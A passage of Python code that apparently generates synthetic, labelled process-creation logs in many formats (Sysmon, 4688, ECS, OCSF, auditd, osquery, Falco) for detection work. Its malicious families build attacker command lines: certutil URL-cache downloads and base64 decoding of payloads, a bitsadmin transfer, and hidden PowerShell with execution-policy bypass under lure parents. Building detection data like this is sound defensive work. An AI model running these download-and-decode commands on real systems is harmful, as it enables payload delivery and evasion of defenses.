    msg = "Process Create:\r\n" + "\r\n".join(f"{k}: {d[k]}" for k in SYSMON_FIELDS)
    doc = {"EventTime": local.strftime("%Y-%m-%d %H:%M:%S"), "Hostname": e.host, "Keywords": "9223372036854775808",
           "EventType": "INFO", "SeverityValue": 2, "Severity": "INFO", "EventID": 1, "SourceName": "Microsoft-Windows-Sysmon",
           "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", "Version": 5, "TaskValue": 1, "OpcodeValue": 0,
           "RecordNumber": e.record, "ProcessID": e.sysmon_pid, "ThreadID": e.thread,
           "Channel": "Microsoft-Windows-Sysmon/Operational", "Domain": "NT AUTHORITY", "AccountName": "SYSTEM",
           "UserID": "S-1-5-18", "AccountType": "User", "Message": msg, "Category": "Process Create (rule: ProcessCreate)",
           "Opcode": "Info"}
    doc.update(d)
    if R.random() < 0.1:
        del doc["ProcessId"]
    doc["EventReceivedTime"] = (local + timedelta(seconds=1)).strftime("%Y-%m-%d %H:%M:%S")
    doc["SourceModuleName"] = G.c(["in_sysmon", "eventlog", "sysmon"])
    doc["SourceModuleType"] = "im_msvistalog"
    return doc


def evtx_system(e, provider, guid, eid, version, level, task, keywords, channel, exec_pid, security, eid_qual=False):
    return {
        "Provider": {"#attributes": {"Name": provider, "Guid": guid}},
        "EventID": {"#attributes": {"Qualifiers": 0}, "#text": eid} if eid_qual else eid,
        "Version": version, "Level": level, "Task": task, "Opcode": 0, "Keywords": keywords,
        "TimeCreated": {"#attributes": {"SystemTime": e.ts.strftime("%Y-%m-%dT%H:%M:%S.") + f"{e.ts.microsecond:06d}Z"}},
        "EventRecordID": e.record, "Correlation": None,
        "Execution": {"#attributes": {"ProcessID": exec_pid, "ThreadID": e.thread}},
        "Channel": channel, "Computer": e.host, "Security": security,
    }


def r_sysmon_evtx_dump(e):
    d = sysmon_data(e)
    for k in ("ProcessId", "ParentProcessId", "TerminalSessionId"):
        d[k] = int(d[k])
    return {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                      "System": evtx_system(e, "Microsoft-Windows-Sysmon", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", 1, 5, 4, 1,
                                            "0x8000000000000000", "Microsoft-Windows-Sysmon/Operational", e.sysmon_pid,
                                            {"#attributes": {"UserID": "S-1-5-18"}}),
                      "EventData": d}}


def xmljson_data(d, order):
    out = []
    for k in order:
        if k not in d:
            continue
        v = d[k]
        out.append({"@Name": k, "#text": str(v)} if v not in ("", None) else {"@Name": k})
    return out


def xmljson_system(e, provider, guid, eid, version, level, task, keywords, channel, exec_pid, security, eid_qual=False):
    return {
        "Provider": {"@Name": provider, "@Guid": guid},
        "EventID": {"@Qualifiers": "0", "#text": str(eid)} if eid_qual else str(eid),
        "Version": str(version), "Level": str(level), "Task": str(task), "Opcode": "0", "Keywords": keywords,
        "TimeCreated": {"@SystemTime": e.ts.strftime("%Y-%m-%dT%H:%M:%S.") + f"{e.ts.microsecond:06d}Z"},
        "EventRecordID": str(e.record), "Correlation": None,
        "Execution": {"@ProcessID": str(exec_pid), "@ThreadID": str(e.thread)},
        "Channel": channel, "Computer": e.host, "Security": security,
    }


def r_sysmon_xmljson(e):
    d = sysmon_data(e)
    return {"Event": {"@xmlns": "http://schemas.microsoft.com/win/2004/08/events/event",
                      "System": xmljson_system(e, "Microsoft-Windows-Sysmon", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", 1, 5, 4, 1,
                                               "0x8000000000000000", "Microsoft-Windows-Sysmon/Operational", e.sysmon_pid,
                                               {"@UserID": "S-1-5-18"}),
                      "EventData": {"Data": xmljson_data(d, SYSMON_FIELDS)}}}


# Security 4688 ---------------------------------------------------------------------------------

SEC_GUID = "{54849625-5478-4994-a5ba-3e3b0328c30d}"
F4688_V2 = ["SubjectUserSid", "SubjectUserName", "SubjectDomainName", "SubjectLogonId", "NewProcessId", "NewProcessName",
            "TokenElevationType", "ProcessId", "CommandLine", "TargetUserSid", "TargetUserName", "TargetDomainName",
            "TargetLogonId", "ParentProcessName", "MandatoryLabel"]
F4688_V0 = ["SubjectUserSid", "SubjectUserName", "SubjectDomainName", "SubjectLogonId", "NewProcessId", "NewProcessName",
            "TokenElevationType", "ProcessId"]


def sec_data(e):
    dom, name, sid = e.ident[0], e.ident[1], e.ident[2]
    if sid == "S-1-5-18":
        name, dom = (f"{e.short.upper()}$", e.c.dom) if R.random() < 0.7 else ("SYSTEM", "NT AUTHORITY")
    elif sid in ("S-1-5-19", "S-1-5-20"):
        name, dom = ("LOCAL SERVICE" if sid == "S-1-5-19" else "NETWORK SERVICE", "NT AUTHORITY")
        if R.random() < 0.5:
            name, dom = f"{e.short.upper()}$", e.c.dom
    d = {"SubjectUserSid": sid, "SubjectUserName": name, "SubjectDomainName": dom, "SubjectLogonId": e.ident[6],
         "NewProcessId": hex(e.pid), "NewProcessName": e.img, "TokenElevationType": e.ident[5], "ProcessId": hex(e.ppid),
         "CommandLine": "" if e.nocmd else e.cmd, "TargetUserSid": "S-1-0-0", "TargetUserName": "-",
         "TargetDomainName": "-", "TargetLogonId": "0x0", "ParentProcessName": e.pimg, "MandatoryLabel": e.ident[4]}
    if e.sec_version == 0:
        d = {k: d[k] for k in F4688_V0}
    return d


def sec_order(e):
    return F4688_V0 if e.sec_version == 0 else F4688_V2


def r_security_4688_xml(e):
    d = sec_data(e)
    data = "".join(f"<Data Name='{k}'>{esc(d[k])}</Data>" for k in sec_order(e))
    return ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' "
            f"Guid='{SEC_GUID}'/><EventID>4688</EventID><Version>{e.sec_version}</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode>"
            f"<Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='{e.ts.strftime('%Y-%m-%dT%H:%M:%S.')}{e.ts.microsecond:06d}"
            f"{R.randint(0, 9)}00Z'/><EventRecordID>{e.record}</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='{e.thread}'/>"
            f"<Channel>Security</Channel><Computer>{e.host}</Computer><Security/></System><EventData>{data}</EventData></Event>")


def r_security_4688_winlogbeat(e):
    d = sec_data(e)
    proc = {"pid": e.pid, "executable": e.img, "name": basename(e.img), "parent": {"pid": e.ppid, "executable": e.pimg}}
    if d.get("CommandLine"):
        proc["command_line"] = e.cmd
        proc["args"] = win_split(e.cmd)
    if e.sec_version == 0:
        del proc["parent"]["executable"]
    return {
        "@timestamp": iso(e.ts),
        "agent": {"name": e.short, "type": "winlogbeat", "version": G.c(["8.12.2", "8.13.4", "7.17.18"]), "id": G.guid()},
        "ecs": {"version": "8.0.0"},
        "event": {"code": "4688", "kind": "event", "provider": "Microsoft-Windows-Security-Auditing", "action": "Process Creation",
                  "category": ["process"], "type": ["start"], "outcome": "success",
                  "created": iso(e.ts + timedelta(milliseconds=R.randint(50, 900))), "module": "security"},
        "winlog": {"channel": "Security", "provider_name": "Microsoft-Windows-Security-Auditing", "provider_guid": SEC_GUID,
                   "event_id": G.c(["4688", 4688]), "computer_name": e.host, "record_id": e.record, "api": "wineventlog",
                   "process": {"pid": 4, "thread": {"id": e.thread}}, "keywords": ["Audit Success"], "opcode": "Info",
                   "task": "Process Creation", "version": e.sec_version, "event_data": d},
        "process": proc,
        "host": {"name": e.host.lower(), "hostname": e.short.lower(), "os": {"family": "windows", "type": "windows", "platform": "windows"}},
        "user": {"id": d["SubjectUserSid"], "name": d["SubjectUserName"], "domain": d["SubjectDomainName"]},
        "log": {"level": "information"}, "message": "A new process has been created.",
    }


ELEV_TEXT = {"%%1936": "%%1936", "%%1937": "%%1937", "%%1938": "%%1938"}


def sec_message(d):
    lines = ["A new process has been created.", "", "Creator Subject:",
             f"\tSecurity ID:\t\t{d['SubjectUserSid']}", f"\tAccount Name:\t\t{d['SubjectUserName']}",
             f"\tAccount Domain:\t\t{d['SubjectDomainName']}", f"\tLogon ID:\t\t{d['SubjectLogonId']}", ""]
    if "TargetUserSid" in d:
        lines += ["Target Subject:", f"\tSecurity ID:\t\t{d['TargetUserSid']}", f"\tAccount Name:\t\t{d['TargetUserName']}",
                  f"\tAccount Domain:\t\t{d['TargetDomainName']}", f"\tLogon ID:\t\t{d['TargetLogonId']}", ""]
    lines += ["Process Information:", f"\tNew Process ID:\t\t{d['NewProcessId']}", f"\tNew Process Name:\t{d['NewProcessName']}",
              f"\tToken Elevation Type:\t{d['TokenElevationType']}"]
    if "MandatoryLabel" in d:
        lines.append(f"\tMandatory Label:\t\t{d['MandatoryLabel']}")
    lines.append(f"\tCreator Process ID:\t{d['ProcessId']}")
    if "ParentProcessName" in d:
        lines.append(f"\tCreator Process Name:\t{d['ParentProcessName']}")
    if "CommandLine" in d:
        lines.append(f"\tProcess Command Line:\t{d['CommandLine']}")
    return "\r\n".join(lines)


def r_security_4688_flat(e):
    d = sec_data(e)
    local = e.ts + timedelta(hours=G.c([0, 1, 2, -4, -5]))
    doc = {"EventTime": local.strftime("%Y-%m-%d %H:%M:%S"), "Hostname": e.host, "Keywords": -9214364837600034816,
           "EventType": "AUDIT_SUCCESS", "SeverityValue": 2, "Severity": "INFO", "EventID": 4688,
           "SourceName": "Microsoft-Windows-Security-Auditing", "ProviderGuid": SEC_GUID.upper().replace("A5BA", "A5BA"),
           "Version": e.sec_version, "Task": 13312, "OpcodeValue": 0, "RecordNumber": e.record, "ProcessID": 4,
           "ThreadID": e.thread, "Channel": "Security", "Message": sec_message(d), "Category": "Process Creation",
           "Opcode": "Info"}
    doc.update(d)
    doc["EventReceivedTime"] = (local + timedelta(seconds=R.randint(0, 2))).strftime("%Y-%m-%d %H:%M:%S")
    doc["SourceModuleName"] = G.c(["eventlog", "in_security", "winsec"])
    doc["SourceModuleType"] = "im_msvistalog"
    return doc


def r_security_4688_evtx_dump(e):
    d = sec_data(e)
    return {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                      "System": evtx_system(e, "Microsoft-Windows-Security-Auditing", SEC_GUID, 4688, e.sec_version, 0, 13312,
                                            "0x8020000000000000", "Security", 4, None, eid_qual=R.random() < 0.4),
                      "EventData": d}}


def r_security_4688_xmljson(e):
    d = sec_data(e)
    return {"Event": {"@xmlns": "http://schemas.microsoft.com/win/2004/08/events/event",
                      "System": xmljson_system(e, "Microsoft-Windows-Security-Auditing", SEC_GUID, 4688, e.sec_version, 0, 13312,
                                               "0x8020000000000000", "Security", 4, None, eid_qual=R.random() < 0.5),
                      "EventData": {"Data": xmljson_data(d, sec_order(e))}}}


# ECS / OCSF / plain, all OSes --------------------------------------------------------------------

WIN_OS = [("Windows 10 Enterprise", "10.0", "22H2 (10.0.19045.4291)"), ("Windows 11 Enterprise", "10.0", "23H2 (10.0.22631.3527)"),
          ("Windows Server 2019 Standard", "10.0", "1809 (10.0.17763.5820)"), ("Windows Server 2022 Datacenter", "10.0", "21H2 (10.0.20348.2461)")]


def flatten(d, prefix=""):
    out = {}
    for k, v in d.items():
        key = f"{prefix}{k}"
        if isinstance(v, dict):
            out.update(flatten(v, key + "."))
        else:
            out[key] = v
    return out


def ecs_doc(e, os_block, agent_type, action, dataset, module, args, pargs, user):
    doc = {
        "@timestamp": iso(e.ts),
        "agent": {"id": G.guid(), "type": agent_type, "version": G.c(["8.12.2", "8.13.4", "8.11.4"])},
        "ecs": {"version": "8.10.0"},
        "event": {"category": ["process"], "type": ["start"], "kind": "event", "action": action, "dataset": dataset, "module": module},
        "host": {"hostname": e.short, "name": e.short, "id": G.guid(), "os": os_block,
                 "architecture": "arm64" if os_block["type"] == "macos" and R.random() < 0.7 else "x86_64"},
        "process": {"entity_id": base64.b64encode(bytes.fromhex(G.hx(40))).decode(), "pid": e.pid, "executable": e.img,
                    "name": basename(e.img), "command_line": e.cmd, "args": args, "args_count": len(args),
                    "hash": {"md5": e.md5, "sha1": e.sha1, "sha256": e.sha256}, "working_directory": e.cwd,
                    "parent": {"entity_id": base64.b64encode(bytes.fromhex(G.hx(40))).decode(), "pid": e.ppid,
                               "executable": e.pimg, "name": basename(e.pimg), "command_line": e.pcmd, "args": pargs}},
        "user": user,
    }
    if module == "endpoint":
        doc["event"]["id"] = G.hx(20).upper()
        doc["event"]["created"] = doc["@timestamp"]
        doc["data_stream"] = {"dataset": dataset, "namespace": "default", "type": "logs"}
        doc["message"] = "Endpoint process event"
    if not e.pcmd:
        del doc["process"]["parent"]["command_line"]
        doc["process"]["parent"]["args"] = [e.pimg] if e.pimg else []
    if R.random() < 0.15:
        doc = flatten(doc)
    return doc


def r_ecs(e):
    if e.os == "windows":
        name, ver, kern = G.c(WIN_OS[2:] if e.c.server else WIN_OS[:2])
        os_block = {"type": "windows", "family": "windows", "platform": "windows", "name": name, "version": ver, "kernel": kern}
        user = {"name": e.ident[1], "domain": e.ident[0], "id": e.ident[2]}
        return ecs_doc(e, os_block, "endpoint", "start", "endpoint.events.process", "endpoint", win_split(e.cmd),
                       win_split(e.pcmd), user)
    if e.os == "linux":
        os_block = G.c([{"type": "linux", "family": "debian", "platform": "ubuntu", "name": "Ubuntu", "version": "22.04.4 LTS (Jammy Jellyfish)", "kernel": "5.15.0-105-generic"},
                        {"type": "linux", "family": "redhat", "platform": "rhel", "name": "Red Hat Enterprise Linux", "version": "9.3 (Plow)", "kernel": "5.14.0-362.24.1.el9_3.x86_64"},
                        {"type": "linux", "family": "debian", "platform": "debian", "name": "Debian GNU/Linux", "version": "12 (bookworm)", "kernel": "6.1.0-20-amd64"}])
        return ecs_doc(e, os_block, "auditbeat", "process_started", "process", "system", e.args, posix_split(e.pcmd),
                       {"name": e.uname, "id": str(e.uid)})
    os_block = {"type": "macos", "family": "darwin", "platform": "darwin", "name": "macOS",
                "version": G.c(["14.4.1", "14.5", "13.6.6"]), "kernel": G.c(["23.4.0", "23.5.0", "22.6.0"])}
    return ecs_doc(e, os_block, "endpoint", "exec", "endpoint.events.process", "endpoint", e.args, posix_split(e.pcmd),
                   {"name": e.uname, "id": str(e.uid)})


def r_ocsf(e):
    ms = int(e.ts.timestamp() * 1000)
    if e.os == "windows":
        name = G.c(WIN_OS[2:] if e.c.server else WIN_OS[:2])[0]
        osb = {"name": name, "type": "Windows", "type_id": 100, "version": "10.0.19045" if "10" in name else "10.0.22631"}
        user = {"name": e.ident[1], "type": "User", "type_id": 1, "domain": e.ident[0], "uid": e.ident[2]}
    elif e.os == "linux":
        osb = {"name": G.c(["Ubuntu 22.04.4 LTS", "Debian GNU/Linux 12", "Red Hat Enterprise Linux 9.3"]), "type": "Linux", "type_id": 200, "version": ""}
        user = {"name": e.uname, "type": "User", "type_id": 1, "uid": str(e.uid)}
    else:
        osb = {"name": "macOS", "type": "macOS", "type_id": 300, "version": G.c(["14.4.1", "14.5", "13.6.6"])}
        user = {"name": e.uname, "type": "User", "type_id": 1, "uid": str(e.uid)}
    if not osb.get("version"):
        del osb["version"]
    proc = {"pid": e.pid, "uid": G.guid(), "name": basename(e.img), "cmd_line": e.cmd, "created_time": ms,
            "file": {"path": e.img, "name": basename(e.img), "type": "Regular File", "type_id": 1,
                     "hashes": [{"algorithm": "SHA-256", "algorithm_id": 3, "value": e.sha256}, {"algorithm": "MD5", "algorithm_id": 1, "value": e.md5}]},
            "user": user,
            "parent_process": {"pid": e.ppid, "uid": G.guid(), "name": basename(e.pimg),
                               "file": {"path": e.pimg, "name": basename(e.pimg), "type_id": 1}, "cmd_line": e.pcmd}}
    if e.cwd and R.random() < 0.5:
        proc["working_directory"] = e.cwd
    if not e.pcmd:
        del proc["parent_process"]["cmd_line"]
    return {"activity_id": 1, "activity_name": "Launch", "category_name": "System Activity", "category_uid": 1,
            "class_name": "Process Activity", "class_uid": 1007, "type_name": "Process Activity: Launch", "type_uid": 100701,
            "severity": "Informational", "severity_id": 1, "status": "Success", "status_id": 1, "time": ms,
            "metadata": {"version": "1.1.0", "uid": G.guid(), "log_name": "process_activity",
                         "product": {"name": "ocsf-process-bridge", "vendor_name": "Corp SecEng", "version": "2.4.1"}},
            "device": {"hostname": e.short, "name": e.short, "uid": G.guid(),
                       "type": "Server" if (e.os == "linux" or (e.os == "windows" and e.c.server)) else "Desktop",
                       "type_id": 1 if (e.os == "linux" or (e.os == "windows" and e.c.server)) else 2,
                       "ip": G.lan(), "os": osb},
            "actor": {"user": user}, "process": proc}


def r_plain(e):
    if e.os == "windows":
        doc = {"command_line": e.cmd, "process_name": basename(e.img), "parent_name": basename(e.pimg),
               "parent_command_line": e.pcmd, "user": user_str(e.ident), "os": "windows"}
    else:
        doc = {"command_line": e.cmd, "process_name": basename(e.img), "parent_name": basename(e.pimg),
               "parent_command_line": e.pcmd, "user": e.uname, "os": e.os}
    if not doc["parent_command_line"] or R.random() < 0.3:
        del doc["parent_command_line"]
    return doc


# ----------------------------------------------------------------------------------------------
# Linux and macOS rendering
# ----------------------------------------------------------------------------------------------

SVC_UIDS = {"root": 0, "www-data": 33, "nobody": 65534, "postgres": 113, "tomcat": 997, "redis": 114, "nginx": 998,
            "jenkins": 996, "mysql": 112, "systemd-resolve": 101, "_apt": 105, "syslog": 104, "man": 6, "elastic": 995,
            "gitlab-runner": 994, "node": 1000, "app": 1001, "_spotlight": 89, "_softwareupdate": 200, "nginx-app": 101}


def posix_record(c, spec, os_name):
    ts = G.ts()
    uname = spec.get("user", c.user)
    if uname == "$user":
        uname = c.user
    uid = c.uid if uname == c.user else SVC_UIDS.get(uname, 1000)
    auid = spec.get("auid", "user" if spec.get("interactive", uname == c.user) else "none")
    auid = c.uid if auid == "user" else (4294967295 if auid == "none" else auid)
    cmd = spec["cmd"]
    args = spec.get("args") or posix_split(cmd)
    img, pimg = spec["img"], spec["pimg"]
    key = img
    cwd = spec.get("cwd") or (c.home if uname == c.user else ("/root" if uname == "root" and R.random() < 0.3 else "/"))
    e = L(ts=ts, host=c.host, short=c.host, c=c, os=os_name, img=img, cmd=cmd, args=args, pimg=pimg, pcmd=spec.get("pcmd", ""),
          uname=uname, uid=uid, auid=auid, cwd=cwd, pid=R.randint(1200, 420000), ppid=R.randint(800, 420000),
          md5=stable_hex(key, "md5", n=32), sha1=stable_hex(key, "sha1", n=40), sha256=stable_hex(key, "sha256"),
          record=R.randint(100000, 9999999), tty=spec.get("tty", "pts0" if auid != 4294967295 else "(none)"),
          ses=R.randint(1, 900) if auid != 4294967295 else 4294967295, container=spec.get("container"))
    return e


def audit_val(s):
    b = s.encode()
    if any(ch <= 0x20 or ch >= 0x7F or ch == 0x22 for ch in b):
        return b.hex().upper()
    return f'"{s}"'


def r_auditd(e):
    t = f"{e.ts.timestamp():.3f}"
    serial = R.randint(100000, 9999999)
    msg = f"msg=audit({t}:{serial}):"
    comm = basename(e.img)[:15]
    g = e.uid
    sysc = (f"type=SYSCALL {msg} arch=c000003e syscall=59 success=yes exit=0 a0={G.hx(12)} a1={G.hx(12)} a2={G.hx(12)} a3={R.randint(0, 15):x} "
            f"items=2 ppid={e.ppid} pid={e.pid} auid={e.auid} uid={e.uid} gid={g} euid={e.uid} suid={e.uid} fsuid={e.uid} "
            f"egid={g} sgid={g} fsgid={g} tty={e.tty} ses={e.ses} comm=\"{comm}\" exe=\"{e.img}\" "
            f"subj={G.c(['unconfined', 'unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023'])} key={G.c(['' + Q + 'exec' + Q + '', '' + Q + 'execve' + Q + '', '(null)'])}")
    execve = f"type=EXECVE {msg} argc={len(e.args)} " + " ".join(f"a{i}={audit_val(a)}" for i, a in enumerate(e.args))
    cwd = f"type=CWD {msg} cwd={audit_val(e.cwd)}"
    first = e.args[0] if e.args and e.args[0].startswith("/") else e.img
    p0 = (f"type=PATH {msg} item=0 name={audit_val(first)} inode={R.randint(10000, 9999999)} dev=fd:01 mode=0100755 ouid=0 ogid=0 "
          f"rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
    p1 = (f"type=PATH {msg} item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=1837161 dev=fd:01 mode=0100755 ouid=0 ogid=0 "
          f"rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
    title = "\0".join(e.args).encode()[:128].hex().upper()
    pt = f"type=PROCTITLE {msg} proctitle={title}"
    lines = [sysc, execve, cwd, p0, p1, pt]
    if R.random() < 0.2:
        node = e.host
        lines = [f"node={node} {ln}" for ln in lines]
    return "\n".join(lines)


def r_osquery(e):
    t = int(e.ts.timestamp())
    cols = {"atime": str(t - R.randint(3600, 400000)), "auid": str(e.auid), "btime": "0", "cmdline": e.cmd,
            "cmdline_size": str(len(e.cmd)), "ctime": str(t - R.randint(400000, 9000000)), "cwd": e.cwd, "egid": str(e.uid),
            "env": "", "env_count": str(R.randint(6, 40)), "env_size": str(R.randint(400, 3000)), "euid": str(e.uid),
            "fsgid": str(e.uid), "fsuid": str(e.uid), "gid": str(e.uid), "mode": "0100755", "mtime": str(t - R.randint(400000, 9000000)),
            "overflows": "", "owner_gid": "0", "owner_uid": "0", "parent": str(e.ppid), "path": e.img, "pid": str(e.pid),
            "sgid": str(e.uid), "status": "0", "suid": str(e.uid), "syscall": "execve", "time": str(t), "uid": str(e.uid),
            "uptime": str(R.randint(3600, 3000000))}
    if e.os == "macos":
        for k in ("btime", "env", "env_count", "env_size", "fsgid", "fsuid", "syscall", "cmdline_size"):
            cols.pop(k, None)
    if R.random() < 0.15:
        return cols
    return {"name": "pack_process-monitoring_process_events", "hostIdentifier": e.host,
            "calendarTime": e.ts.strftime("%a %b %d %H:%M:%S %Y UTC"), "unixTime": t, "epoch": 0, "counter": R.randint(1, 999),
            "numerics": False, "decorations": {"host_uuid": G.guid().upper(), "hostname": e.host}, "columns": cols, "action": "added"}


def r_linux_sysmon_xml(e):
    g = stable_hex(e.host, "lsm", n=8)
    t = int(e.ts.timestamp())
    guid = lambda: "{%s-%04x-%04x-%s-%s}" % (g, t & 0xFFFF, (t >> 16) & 0xFFFF, G.hx(4), G.hx(8) + "0000")
    d = {"RuleName": "-", "UtcTime": e.ts.strftime("%Y-%m-%d %H:%M:%S.") + f"{e.ts.microsecond // 1000:03d}",
         "ProcessGuid": guid(), "ProcessId": str(e.pid), "Image": e.img, "FileVersion": "-", "Description": "-", "Product": "-",
         "Company": "-", "OriginalFileName": "-", "CommandLine": e.cmd, "CurrentDirectory": e.cwd, "User": e.uname,
         "LogonGuid": "{%s-%04x-%04x-0000-000000000000}" % (g, (t - 90000) & 0xFFFF, ((t - 90000) >> 16) & 0xFFFF),
         "LogonId": str(e.auid if e.auid != 4294967295 else 0), "TerminalSessionId": str(e.ses if e.ses != 4294967295 else 0),
         "IntegrityLevel": "no level", "Hashes": "-", "ParentProcessGuid": guid(), "ParentProcessId": str(e.ppid),
         "ParentImage": e.pimg, "ParentCommandLine": e.pcmd, "ParentUser": e.puser}
    data = "".join(f"<Data Name='{k}'>{esc(d[k])}</Data>" for k in SYSMON_FIELDS)
    return ("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Linux-Sysmon' "
            "Guid='{ff032593-a8d3-4f13-b0d6-01fc615a0f97}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task>"
            f"<Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='{e.ts.strftime('%Y-%m-%dT%H:%M:%S.')}{e.ts.microsecond // 100:04d}000Z'/>"
            f"<EventRecordID>{e.record}</EventRecordID><Correlation/><Execution ProcessID='{1258 + len(e.host)}' ThreadID='{1258 + len(e.host)}'/>"
            f"<Channel>Linux-Sysmon/Operational</Channel><Computer>{e.host}</Computer><Security UserId='0'/></System>"
            f"<EventData>{data}</EventData></Event>")


def r_falco(e, rule, priority, msg):
    ns = int(e.ts.timestamp()) * 1_000_000_000 + e.ts.microsecond * 1000 + R.randint(0, 999)
    f = {"evt.time": ns, "evt.type": "execve", "proc.cmdline": e.cmd, "proc.exepath": e.img, "proc.name": basename(e.img)[:15],
         "proc.pcmdline": e.pcmd, "proc.pid": e.pid, "proc.pname": basename(e.pimg)[:15], "proc.tty": 34816 if e.tty != "(none)" else 0,
         "user.loginuid": -1 if e.auid == 4294967295 else e.auid, "user.name": e.uname, "user.uid": e.uid, "proc.cwd": e.cwd + "/"}
    if e.container:
        repo, tag, cname, ns_, pod = e.container
        f.update({"container.id": G.hx(12), "container.image.repository": repo, "container.image.tag": tag, "container.name": cname,
                  "k8s.ns.name": ns_, "k8s.pod.name": pod})
    else:
        f["container.id"] = "host"
    order = ["container.id", "container.image.repository", "container.image.tag", "container.name", "k8s.ns.name", "k8s.pod.name",
             "proc.cmdline", "proc.exepath", "proc.name", "proc.pcmdline", "proc.pid", "proc.pname", "proc.tty", "user.loginuid",
             "user.name", "user.uid"]
    kv = " ".join(f"{k.replace('.', '_')}={f[k]}" for k in order if k in f)
    clock = e.ts.strftime("%H:%M:%S.") + f"{ns % 1_000_000_000:09d}"
    tags = {"Critical": ["mitre_execution"], "Warning": ["mitre_execution"], "Notice": ["mitre_discovery"], "Error": ["mitre_persistence"]}
    return {"hostname": e.host, "output": f"{clock}: {priority} {msg} ({kv})", "output_fields": dict(sorted(f.items())),
            "priority": priority, "rule": rule, "source": "syscall", "tags": sorted(["host", "container", "process", "maturity_stable"] + tags.get(priority, [])),
            "time": e.ts.strftime("%Y-%m-%dT%H:%M:%S.") + f"{ns % 1_000_000_000:09d}Z"}


# ----------------------------------------------------------------------------------------------
# Families
# ----------------------------------------------------------------------------------------------

FAMILIES = []


def family(name, label, os_name, techniques, tactic, note, n, falco=None):
    def reg(fn):
        FAMILIES.append(dict(name=name, label=label, os=os_name, techniques=techniques, tactic=tactic, note=note, n=n,
                             falco=falco, fn=fn))
        return fn
    return reg


def M(name, os_name, techniques, tactic, note, n=7, falco=None):
    return family(name, "malicious", os_name, techniques, tactic, note, n, falco)


def S(name, os_name, techniques, tactic, note, n=7, falco=None):
    return family(name, "suspicious", os_name, techniques, tactic, note, n, falco)


def B(name, os_name, note, n=11, falco=None):
    # Background outnumbers attacks on real machines: benign families get about twice the events.
    return family(name, "benign", os_name, [], None, note, n + 3, falco)


def lure_parent(c):
    """The parents a first-stage payload really has: a shell, a script host, an Office app, explorer."""
    k = R.random()
    if k < 0.3:
        return explorer()
    if k < 0.55:
        return "C:\\Windows\\System32\\wscript.exe", f"\"C:\\Windows\\System32\\WScript.exe\" \"{c.home}\\Downloads\\{G.c(DOC_NAMES)}.js\""
    if k < 0.75:
        return ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                f"\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"{c.home}\\Downloads\\{G.c(DOC_NAMES)}.doc\"")
    return None, None


def pflags():
    parts = [G.c(["-nop", "-NoP", "-NoProfile", "-noprofile"]), G.c(["-w hidden", "-W Hidden", "-WindowStyle Hidden", "-win hid"])]
    if R.random() < 0.6:
        parts.append(G.c(["-ep bypass", "-Exec Bypass", "-ExecutionPolicy Bypass", "-exec bypass"]))
    if R.random() < 0.3:
        parts.append(G.c(["-NonI", "-noni", "-NonInteractive"]))
    R.shuffle(parts)
    return " ".join(parts)


def psexe():
    return G.c(["powershell.exe", "powershell", "PowerShell.exe", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"",
                "C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe"])


def with_parent(spec, child_cmd, c, shell=True):
    """Gives a spec the parent its command line would have: a cmd /c wrapper or a lure."""
    pimg, pcmd = lure_parent(c)
    if pimg is None or (shell and R.random() < 0.5):
        pimg, pcmd = cmd_wrap(child_cmd)
    spec.setdefault("pimg", pimg)
    spec.setdefault("pcmd", pcmd)
    return spec


# Windows, malicious ---------------------------------------------------------------------------


@M("win-certutil-urlcache-download", "windows", ["T1105"], "command-and-control",
    "certutil's URL cache fetching an executable or script from a bare IP or throwaway domain into a user-writable folder: ingress tool transfer")
def _(c):
    dst = f"{user_drop_dir(c)}\\{drop_name(G.c(['.exe', '.dll', '.bat', '.ps1', '.txt']))}"
    flags = G.c(["-urlcache -split -f", "-urlcache -f", "-URLCache -split -f", "/urlcache /split /f", "-split -urlcache -f", "-verifyctl -split -f"])
    cmd = f"{G.c(['certutil.exe', 'certutil', 'C:' + BS + 'Windows' + BS + 'System32' + BS + 'certutil.exe'])} {flags} {url()} {G.c([dst, chr(34) + dst + chr(34)])}"
    return with_parent({"img": SYS + "\\certutil.exe", "cmd": cmd}, cmd, c)


@M("win-certutil-decode-payload", "windows", ["T1140"], "defense-evasion",
    "certutil -decode turning a base64 text blob dropped in a temp or public folder into an executable or DLL")
def _(c):
    d = user_drop_dir(c)
    src = f"{d}\\{G.c(['enc', 'b64', 'data', 'cert', 'log', G.name(5)])}.{G.c(['txt', 'crt', 'b64', 'tmp'])}"
    dst = f"{d}\\{drop_name(G.c(['.exe', '.dll']))}"
    cmd = f"{G.c(['certutil', 'certutil.exe'])} {G.c(['-decode', '-f -decode', '/decode', '-decodehex'])} {src} {dst}"
    return with_parent({"img": SYS + "\\certutil.exe", "cmd": cmd}, cmd, c)


@M("win-bitsadmin-download", "windows", ["T1197", "T1105"], "defense-evasion",
    "bitsadmin creating a BITS transfer of an executable from an untrusted host into a user-writable path")
def _(c):
    job = G.c(["myjob", "Update", "WindowsUpdate", "dl", "job1", G.name(6), "OneDriveSync"])
    dst = f"{user_drop_dir(c)}\\{drop_name()}"
    if R.random() < 0.6:
